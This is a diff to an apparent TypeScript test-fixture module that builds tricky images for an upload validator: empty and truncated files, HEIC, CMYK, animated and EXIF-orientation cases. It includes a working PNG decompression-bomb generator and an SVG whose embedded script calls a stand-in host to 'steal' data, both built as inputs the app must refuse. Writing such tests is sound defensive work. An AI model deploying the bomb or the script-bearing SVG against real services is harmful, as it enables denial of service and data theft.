@@ -1,6 +1,7 @@
 // Builds test images in every format the app accepts (and some it must refuse) from a fixture
 // face, so format coverage needs no extra committed files.
 import sharp from 'sharp';
+import { readFileSync } from 'node:fs';
 
 export interface NamedFile {
   name: string;
@@ -65,4 +66,102 @@ export function badFiles(): NamedFile[] {
     },
     { name: 'noise.jpg', buffer: random, mimeType: 'image/jpeg' },
   ];
+}
+
+/** A real decompression bomb: a valid 20000x20000 greyscale PNG of zeros (~400 MB of pixels, ~0.4 MB on disk). */
+export async function pngBomb(side = 20000): Promise<Buffer> {
+  const { deflateSync, crc32 } = await import('node:zlib');
+  const chunk = (type: string, data: Buffer) => {
+    const len = Buffer.alloc(4);
+    len.writeUInt32BE(data.length);
+    const td = Buffer.concat([Buffer.from(type, 'ascii'), data]);
+    const crc = Buffer.alloc(4);
+    crc.writeUInt32BE(crc32(td));
+    return Buffer.concat([len, td, crc]);
+  };
+  const ihdr = Buffer.alloc(13);
+  ihdr.writeUInt32BE(side, 0);
+  ihdr.writeUInt32BE(side, 4);
+  ihdr[8] = 8; // bit depth
+  ihdr[9] = 0; // greyscale
+  const raw = Buffer.alloc(side * (side + 1)); // filter byte 0 + zero pixels per row
+  const idat = deflateSync(raw, { level: 9 });
+  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', idat), chunk('IEND', Buffer.alloc(0))]);
+}
+
+/** The hard cases of issue 5, each with what the app must say about it (a pattern), or null if it must be analysed. */
+export async function hardCases(face: string, jpegFace: string): Promise<(NamedFile & { expect: RegExp | null })[]> {
+  const jpg = readFileSync(jpegFace);
+  const rgb = sharp(face).removeAlpha();
+  const frame2 = await rgb.clone().negate().png().toBuffer();
+  // The top quarter cut out to full transparency: a face sticker.
+  const { width = 0, height = 0 } = await sharp(face).metadata();
+  const transparent = await sharp(face)
+    .ensureAlpha()
+    .composite([{ input: { create: { width, height: Math.round(height / 4), channels: 4, background: { r: 0, g: 0, b: 0, alpha: 1 } } }, blend: 'dest-out', top: 0, left: 0 }])
+    .png()
+    .toBuffer();
+  return [
+    { name: 'zero.jpg', buffer: Buffer.alloc(0), mimeType: 'image/jpeg', expect: /empty/i },
+    { name: 'truncated.jpg', buffer: jpg.subarray(0, Math.floor(jpg.length * 0.6)), mimeType: 'image/jpeg', expect: /truncated/i },
+    ...badFiles().filter((f) => f.name === 'noise.jpg' || f.name === 'notes.txt' || f.name === 'scan.pdf').map((f) => ({ ...f, expect: { 'noise.jpg': /not a supported image/i, 'notes.txt': /text file/i, 'scan.pdf': /PDF/ }[f.name]! })),
+    {
+      name: 'drawing.svg',
+      buffer: Buffer.from(
+        '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>fetch("http://203.0.113.9/steal")</script><rect width="64" height="64"/></svg>',
+      ),
+      mimeType: 'image/svg+xml',
+      expect: /SVG/,
+    },
+    { name: 'bomb.png', buffer: await pngBomb(), mimeType: 'image/png', expect: /20000×20000.*megapixels/ },
+    { name: 'phone.heic', buffer: Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic'), Buffer.alloc(64)]), mimeType: 'image/heic', expect: /HEIC/ },
+    {
+      name: 'animated.gif',
+      buffer: await sharp([await rgb.clone().png().toBuffer(), frame2], { join: { animated: true } }).gif({ delay: [200, 200], loop: 0 }).toBuffer(),
+      mimeType: 'image/gif',
+      expect: null,
+    },
+    { name: 'cmyk.jpg', buffer: await rgb.clone().toColourspace('cmyk').jpeg({ quality: 92 }).toBuffer(), mimeType: 'image/jpeg', expect: null },
+    { name: 'deep-16bit.png', buffer: await rgb.clone().toColourspace('rgb16').png().toBuffer(), mimeType: 'image/png', expect: null },
+    { name: 'transparent.png', buffer: transparent, mimeType: 'image/png', expect: null },
+  ];
+}
+
+/**
+ * The same upright picture stored under each EXIF orientation 1-8: the pixels are stored transformed
+ * so that a viewer honouring the tag shows the upright picture. libvips (sharp) is the judge of
+ * which stored transform each tag needs.
+ */
+export async function exifOrientations(face: string): Promise<NamedFile[]> {
+  const upright = sharp(face).removeAlpha().resize(160, 120, { fit: 'fill' });
+  const { data: want } = await upright.clone().raw().toBuffer({ resolveWithObject: true });
+  const transforms: ((s: sharp.Sharp) => sharp.Sharp)[] = [
+    (s) => s,
+    (s) => s.flop(),
+    (s) => s.rotate(180),
+    (s) => s.flip(),
+    (s) => s.rotate(90).flop(),
+    (s) => s.rotate(270),
+    (s) => s.rotate(270).flop(),
+    (s) => s.rotate(90),
+  ];
+  const base = await upright.clone().png().toBuffer();
+  const out: NamedFile[] = [];
+  for (let orientation = 1; orientation <= 8; orientation++) {
+    let found: Buffer | null = null;
+    for (const t of transforms) {
+      const stored = await t(sharp(base)).jpeg({ quality: 95 }).withMetadata({ orientation }).toBuffer();
+      const { data, info } = await sharp(stored).rotate().raw().toBuffer({ resolveWithObject: true });
+      if (info.width !== 160 || info.height !== 120) continue;
+      let diff = 0;
+      for (let i = 0; i < data.length; i++) diff += Math.abs(data[i] - want[i]);
+      if (diff / data.length < 4) {
+        found = stored;
+        break;
+      }
+    }
+    if (!found) throw new Error(`no stored transform reproduces orientation ${orientation}`);
+    out.push({ name: `orientation-${orientation}.jpg`, buffer: found, mimeType: 'image/jpeg' });
+  }
+  return out;
 }
